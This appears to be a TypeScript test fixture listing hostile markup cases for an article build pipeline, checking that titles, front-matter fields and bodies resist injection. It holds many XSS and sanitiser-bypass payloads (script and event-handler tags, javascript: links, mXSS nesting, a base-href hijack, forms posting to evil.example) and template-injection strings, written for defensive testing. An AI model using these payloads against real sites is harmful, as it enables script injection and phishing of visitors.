import { article, articles, type HostileCase } from "./case.ts";

/** Markup that would run, frame, post, dress or hide, in every place an article has for words. */
const MARKUP: readonly (readonly [why: string, text: string])[] = [
  ["ends a script of ours", "</script><script>ran()</script>"],
  ["ends a comment of ours", "--><script>ran()</script><!--"],
  ["ends an attribute", '"><img src=x onerror=ran()>'],
  ["ends an attribute of single quotes", "'><svg onload=ran()>"],
  ["ends CDATA in the feed", "]]><script>ran()</script>"],
  ["is a template expression", "{{ constructor }} {% raw %} {# x #}"],
  ["has an entity that becomes a tag", "&lt;script&gt;ran()&lt;/script&gt; &#60;b&#62;"],
];
const FIELDS: readonly (readonly [name: string, line: (text: string) => string])[] = [
  ["description", (text) => `description: ${JSON.stringify(text)}`],
  ["tags", (text) => `tags: [${JSON.stringify(text)}]`],
  ["key facts", (text) => `keyFacts: [${JSON.stringify(text)}]`],
  ["emergency", (text) => `emergency: ${JSON.stringify(text)}`],
  ["sponsor", (text) => `sponsor: ${JSON.stringify(text)}`],
  ["sources", (text) => `sources: [{ title: ${JSON.stringify(text)} }]`],
];

const BODIES: readonly (readonly [why: string, body: string])[] = [
  ["a script", "<script>ran()</script>\n\nAfter."],
  [
    "a handler",
    '<b onclick="ran()">x</b> <img src="https://other.example/x" onerror="ran()" alt="">\n\nAfter.',
  ],
  ["a frame", '<iframe src="https://evil.example"></iframe>\n\nAfter.'],
  [
    "a form that posts elsewhere",
    '<form action="https://evil.example"><input name="p"><button>Go</button></form>\n\nAfter.',
  ],
  [
    "a script address in Markdown",
    "[x](javascript:ran()) [y](JaVaScRiPt:ran()) [z](data:text/html,x)\n\nAfter.",
  ],
  [
    "a script address in HTML, written with entities",
    '<a href="java&#x09;script:ran()">x</a> <a href=" javascript:ran()">y</a>\n\nAfter.',
  ],
  [
    "a picture that runs",
    "<svg><script>ran()</script><a xlink:href='javascript:ran()'>x</a></svg>\n\nAfter.",
  ],
  [
    "mathematics that hides a tag",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>\n\nAfter.",
  ],
  [
    "a style that covers the page",
    '<div style="position:fixed;inset:0">x</div><style>body{display:none}</style>\n\nAfter.',
  ],
  [
    "a base that moves every link",
    '<base href="https://evil.example/"><link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0;url=x">\n\nAfter.',
  ],
  ["an object and an embed", '<object data="x"></object><embed src="x"><applet code="x"></applet>\n\nAfter.'],
  [
    "a template with a shadow root",
    '<template shadowrootmode="open"><script>ran()</script></template>\n\nAfter.',
  ],
  [
    "ids that our scripts look for",
    '<p id="search">x</p><p id="theme">y</p><p name="getElementById" id="v_related">z</p>\n\nAfter.',
  ],
  ["a reference link to a script", "[x][1]\n\n[1]: javascript:ran()\n\nAfter."],
  ["an autolink to a script", "<javascript:ran()> <vbscript:x>\n\nAfter."],
  [
    "an image that is a script",
    "![x](javascript:ran()) ![y](data:image/svg+xml,<svg/onload=ran()>)\n\nAfter.",
  ],
  ["nested tags that a pass joins", "<scr<script>ipt>ran()</scr</script>ipt>\n\nAfter."],
  ["a tag that never ends", '<img src="x" onerror="ran()\n\nAfter.'],
  ["template expressions in prose", "{{ name }} {% include 'x' %} {{ '{{' }} {# x #}\n\nAfter."],
  ["shortcodes and slots", "{% raw %}{{ x }}{% endraw %} <slot name=x>y</slot>\n\nAfter."],
];

export const INJECTION: readonly HostileCase[] = [
  ...articles(
    "injection",
    MARKUP.map(([why, text]) => [`the title ${why}`, article(text), "built"]),
  ),
  ...articles(
    "injection",
    FIELDS.flatMap(([field, line]) =>
      MARKUP.slice(0, 4).map(
        ([why, text]) => [`${field}: ${why}`, article("Words", "Text.", `${line(text)}\n`), "built"] as const,
      ),
    ),
  ),
  ...articles(
    "injection",
    BODIES.map(([why, body]) => [`the text has ${why}`, article("Words", body), "built", "After."]),
  ),
  ...articles("injection", [
    [
      "the text has a handler on a picture that is not there",
      article("Words", '<b onclick="ran()">x</b> <img src="x" onerror="ran()" alt="">\n\nAfter.'),
      "refused",
    ],
  ]),
];
